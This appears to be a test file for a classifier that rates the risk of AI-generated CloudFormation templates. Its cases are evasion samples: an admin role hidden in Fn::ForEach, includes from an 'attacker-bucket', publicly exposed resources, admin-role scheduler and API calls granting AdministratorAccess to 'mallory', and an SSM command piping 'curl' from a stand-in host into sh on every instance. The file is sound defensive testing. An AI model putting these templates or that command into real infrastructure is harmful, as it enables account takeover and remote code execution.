import { classifyRisk } from '../../../src/core/risk/classify-risk.js';

// Review #9 second attacker pass on the risk classifier: more shapes of the same access the first
// pass's fixes do not read. Model output is untrusted (DESIGN §5b); a template that reads as low
// is auto-merged and deployed on merge in hybrid and automated mode. "FAULT:" cases assert the
// right answer (high); they were `it.failing` until the classifier read each kind.

const TEMPLATE = 'services/orders-api/template.yaml';

function levelOf(template: string): string {
  return classifyRisk({
    files: [{ path: TEMPLATE, content: template, role: 'template' }],
    templatePath: TEMPLATE,
    targetEnvironment: 'staging',
    production: false,
  }).level;
}

const template = (body: object) =>
  JSON.stringify({ AWSTemplateFormatVersion: '2010-09-09', ...body }, null, 2);

const queue = { Type: 'AWS::SQS::Queue', Properties: {} };

describe('review #9b attacks: the risk classifier', () => {
  it('control: an IAM role written out is high', () => {
    expect(
      levelOf(
        template({
          Resources: { Role: { Type: 'AWS::IAM::Role', Properties: { AssumeRolePolicyDocument: {} } } },
        }),
      ),
    ).toBe('high');
  });

  // AWS::LanguageExtensions is on the known-transform list, and it adds Fn::ForEach: a Resources
  // key `Fn::ForEach::<name>` whose value is a list is read as a resource with no Type and
  // skipped, so the IAM role (admin, `*`) it expands to at deploy time is never judged.
  it('FAULT: an IAM role made by Fn::ForEach (AWS::LanguageExtensions) is high', () => {
    expect(
      levelOf(
        template({
          Transform: 'AWS::LanguageExtensions',
          Resources: {
            Queue: queue,
            'Fn::ForEach::Roles': [
              'Name',
              ['Admin'],
              {
                'Role${Name}': {
                  Type: 'AWS::IAM::Role',
                  Properties: {
                    AssumeRolePolicyDocument: {},
                    Policies: [
                      {
                        PolicyName: 'all',
                        PolicyDocument: { Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] },
                      },
                    ],
                  },
                },
              },
            ],
          },
        }),
      ),
    ).toBe('high');
  });

  // The top-level Transform is judged, but an inline `Fn::Transform` (AWS::Include, or any macro)
  // inside a resource's Properties pulls its content from S3 / a Lambda at deploy time.
  it('FAULT: a security group whose Properties come from an inline Fn::Transform AWS::Include is high', () => {
    expect(
      levelOf(
        template({
          Resources: {
            Sg: {
              Type: 'AWS::EC2::SecurityGroup',
              Properties: {
                'Fn::Transform': {
                  Name: 'AWS::Include',
                  Parameters: { Location: 's3://attacker-bucket/open-ingress.yaml' },
                },
              },
            },
          },
        }),
      ),
    ).toBe('high');
  });

  it('FAULT: a resource pulled in whole by an inline Fn::Transform in Resources is high', () => {
    expect(
      levelOf(
        template({
          Resources: {
            Queue: queue,
            'Fn::Transform': {
              Name: 'AWS::Include',
              Parameters: { Location: 's3://attacker-bucket/admin-role.yaml' },
            },
          },
        }),
      ),
    ).toBe('high');
  });

  // Ingress from a managed prefix list the template fills with 0.0.0.0/0: only CidrIp/CidrIpv6 are read.
  it('FAULT: ingress from a prefix list holding 0.0.0.0/0 is high', () => {
    expect(
      levelOf(
        template({
          Resources: {
            Everyone: {
              Type: 'AWS::EC2::PrefixList',
              Properties: {
                PrefixListName: 'everyone',
                AddressFamily: 'IPv4',
                MaxEntries: 1,
                Entries: [{ Cidr: '0.0.0.0/0' }],
              },
            },
            Sg: {
              Type: 'AWS::EC2::SecurityGroup',
              Properties: {
                GroupDescription: 'web',
                SecurityGroupIngress: [{ IpProtocol: '-1', SourcePrefixListId: { Ref: 'Everyone' } }],
              },
            },
          },
        }),
      ),
    ).toBe('high');
  });

  // The /8 bound is per rule: 128 rules of /8 are 0.0.0.0/1, the same split the first pass fixed.
  it('FAULT: half the IPv4 internet as 128 ingress rules of /8 is high', () => {
    const rules = Array.from({ length: 128 }, (_, n) => ({
      IpProtocol: 'tcp',
      FromPort: 22,
      ToPort: 22,
      CidrIp: `${n}.0.0.0/8`,
    }));
    expect(
      levelOf(
        template({
          Resources: {
            Sg: {
              Type: 'AWS::EC2::SecurityGroup',
              Properties: { GroupDescription: 'ssh', SecurityGroupIngress: rules },
            },
          },
        }),
      ),
    ).toBe('high');
  });

  // A public, unauthenticated URL on an existing function (no function, so no role, in the
  // template): AWS::Lambda::Url's AuthType NONE is not read (lambdaPermissionRisks reads
  // FunctionUrlAuthType on AWS::Lambda::Permission only) — anyone on the internet invokes it.
  it('FAULT: an AWS::Lambda::Url with AuthType NONE on an existing function is high', () => {
    expect(
      levelOf(
        template({
          Resources: {
            Url: {
              Type: 'AWS::Lambda::Url',
              Properties: {
                AuthType: 'NONE',
                TargetFunctionArn: 'arn:aws:lambda:eu-west-1:123456789012:function:payments-admin',
              },
            },
          },
        }),
      ),
    ).toBe('high');
  });
  // unseenEffectRisks reads only top-level Role/RoleArn/ServiceRole… properties. An existing role
  // (an admin role named by ARN) handed over in a nested property, or an existing instance profile,
  // gives the generated resources powers the change does not show, the same way.
  const existingAdmin = 'arn:aws:iam::123456789012:role/OrganizationAccountAccessRole';
  it.each([
    [
      'an EventBridge Scheduler universal target calling IAM as an existing role (Target.RoleArn)',
      {
        Type: 'AWS::Scheduler::Schedule',
        Properties: {
          ScheduleExpression: 'rate(1 day)',
          FlexibleTimeWindow: { Mode: 'OFF' },
          Target: {
            Arn: 'arn:aws:scheduler:::aws-sdk:iam:attachUserPolicy',
            RoleArn: existingAdmin,
            Input: '{"UserName":"mallory","PolicyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}',
          },
        },
      },
    ],
    [
      'an EventBridge rule target run as an existing role (Targets[].RoleArn)',
      {
        Type: 'AWS::Events::Rule',
        Properties: {
          ScheduleExpression: 'rate(1 day)',
          Targets: [
            {
              Id: 'run',
              Arn: 'arn:aws:states:eu-west-1:123456789012:stateMachine:ops',
              RoleArn: existingAdmin,
            },
          ],
        },
      },
    ],
    [
      'an API Gateway integration calling AWS as an existing role (Integration.Credentials)',
      {
        Type: 'AWS::ApiGateway::Method',
        Properties: {
          RestApiId: 'abc123',
          ResourceId: 'def456',
          HttpMethod: 'POST',
          AuthorizationType: 'NONE',
          Integration: {
            Type: 'AWS',
            IntegrationHttpMethod: 'POST',
            Uri: 'arn:aws:apigateway:eu-west-1:iam:action/CreateAccessKey',
            Credentials: existingAdmin,
          },
        },
      },
    ],
    [
      'an EC2 instance running with an existing instance profile (IamInstanceProfile)',
      {
        Type: 'AWS::EC2::Instance',
        Properties: {
          ImageId: 'resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64',
          InstanceType: 't3.micro',
          IamInstanceProfile: 'OrganizationAdminProfile',
        },
      },
    ],
  ])('FAULT: %s is high', (_name, resource) => {
    expect(levelOf(template({ Resources: { It: resource } }))).toBe('high');
  });
  // Exposure to the internet in other shapes than a security group or a policy: a database with a
  // public endpoint, a bucket whose ACL lets anyone read and write, and a run-command association
  // that runs a shell script on every managed instance of the account.
  it.each([
    [
      'an RDS instance with PubliclyAccessible true',
      {
        Type: 'AWS::RDS::DBInstance',
        DeletionPolicy: 'Retain',
        UpdateReplacePolicy: 'Retain',
        Properties: {
          PubliclyAccessible: true,
          Engine: 'postgres',
          DBInstanceClass: 'db.t3.micro',
          AllocatedStorage: '20',
          MasterUsername: 'app',
          ManageMasterUserPassword: true,
        },
      },
    ],
    [
      'an S3 bucket with AccessControl PublicReadWrite and public ACLs unblocked',
      {
        Type: 'AWS::S3::Bucket',
        DeletionPolicy: 'Retain',
        UpdateReplacePolicy: 'Retain',
        Properties: {
          AccessControl: 'PublicReadWrite',
          PublicAccessBlockConfiguration: { BlockPublicAcls: false, IgnorePublicAcls: false },
        },
      },
    ],
    [
      'an SSM association running a shell script on every instance (Targets InstanceIds *)',
      {
        Type: 'AWS::SSM::Association',
        Properties: {
          Name: 'AWS-RunShellScript',
          Targets: [{ Key: 'InstanceIds', Values: ['*'] }],
          Parameters: { commands: ['curl -s https://example.invalid/x | sh'] },
        },
      },
    ],
  ])('FAULT: %s is high', (_name, resource) => {
    expect(levelOf(template({ Resources: { It: resource } }))).toBe('high');
  });
});
